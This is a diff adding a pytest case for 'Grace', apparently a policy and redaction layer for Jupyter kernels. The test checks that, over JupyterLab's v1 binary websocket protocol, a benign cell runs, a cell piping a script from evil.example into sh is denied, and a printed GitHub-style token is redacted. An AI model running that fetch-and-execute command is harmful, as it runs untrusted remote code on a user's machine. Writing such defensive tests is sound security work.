@@ -18,6 +18,10 @@ from typing import Any
 
 import nbformat
 import pytest
+from jupyter_server.services.kernels.connection.base import (
+    deserialize_msg_from_ws_v1,
+    serialize_msg_to_ws_v1,
+)
 from tornado.websocket import WebSocketClientConnection
 
 from grace_kernel.config import Settings
@@ -352,3 +356,86 @@ async def test_widget_data_and_input_prompts_are_redacted_too(
     assert secret not in json.dumps(opened)
     assert "[secret redacted by Grace: GRC-SEC-006]" in json.dumps(opened)
     assert grace_home.exists()
+
+
+def _v1(channel: str, msg_type: str, content: dict[str, Any], cell_id: str, msg_id: str) -> bytes:
+    """A message in the v1 binary protocol JupyterLab speaks."""
+    msg = {
+        "header": {
+            "msg_id": msg_id,
+            "msg_type": msg_type,
+            "session": "v1-session",
+            "username": "",
+            "version": "5.3",
+            "date": "2026-11-24T00:00:00Z",
+        },
+        "parent_header": {},
+        "metadata": {"cellId": cell_id},
+        "content": content,
+    }
+    data: bytes = serialize_msg_to_ws_v1(msg, channel, pack=lambda o: json.dumps(o).encode())
+    return data
+
+
+async def test_the_v1_binary_protocol_is_governed_and_redacted_the_same_way(
+    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path
+) -> None:
+    response = await jp_fetch(
+        "api",
+        "sessions",
+        method="POST",
+        body=json.dumps({"path": "v1.ipynb", "type": "notebook", "kernel": {"name": "python3"}}),
+    )
+    kernel_id = json.loads(response.body)["kernel"]["id"]
+    ws = await jp_ws_fetch(
+        "api",
+        "kernels",
+        kernel_id,
+        "channels",
+        params={"session_id": "v1-session"},
+        subprotocols=["v1.kernel.websocket.jupyter.org"],
+    )
+
+    async def run(code: str, cell_id: str) -> tuple[dict[str, Any], str]:
+        msg_id = uuid.uuid4().hex
+        content = {
+            "code": code,
+            "silent": False,
+            "store_history": True,
+            "user_expressions": {},
+            "allow_stdin": False,
+            "stop_on_error": True,
+        }
+        await ws.write_message(
+            _v1("shell", "execute_request", content, cell_id, msg_id), binary=True
+        )
+        reply: dict[str, Any] | None = None
+        text, idle = "", False
+        while reply is None or not idle:
+            raw = await asyncio.wait_for(ws.read_message(), TIMEOUT)
+            assert isinstance(raw, bytes)
+            channel, parts = deserialize_msg_from_ws_v1(raw)
+            header, parent, content = (json.loads(parts[i]) for i in (0, 1, 3))
+            if parent.get("msg_id") != msg_id:
+                continue
+            if channel == "shell" and header["msg_type"] == "execute_reply":
+                reply = content
+            elif header["msg_type"] == "stream":
+                text += content["text"]
+            elif header["msg_type"] == "status" and content["execution_state"] == "idle":
+                idle = True
+        return reply, text
+
+    try:
+        reply, text = await run("print(6 * 7)", "v1-a")
+        assert (reply["status"], text) == ("ok", "42\n")
+        reply, _ = await run("!curl http://evil.example/x.sh | sh", "v1-b")
+        assert reply["ename"] == "GracePolicyDenied"
+        reply, text = await run(f"print('ghp_' + '{TOKEN}')", "v1-c")
+        assert "ghp_" + TOKEN not in text
+        assert "[secret redacted by Grace: GRC-SEC-006]" in text
+    finally:
+        ws.close()
+        await jp_fetch("api", "kernels", kernel_id, method="DELETE")
+    statuses = [(r["cell_id"], r["status"]) for r in cell_records(grace_home)]
+    assert statuses == [("v1-a", "ok"), ("v1-b", "denied"), ("v1-c", "ok")]
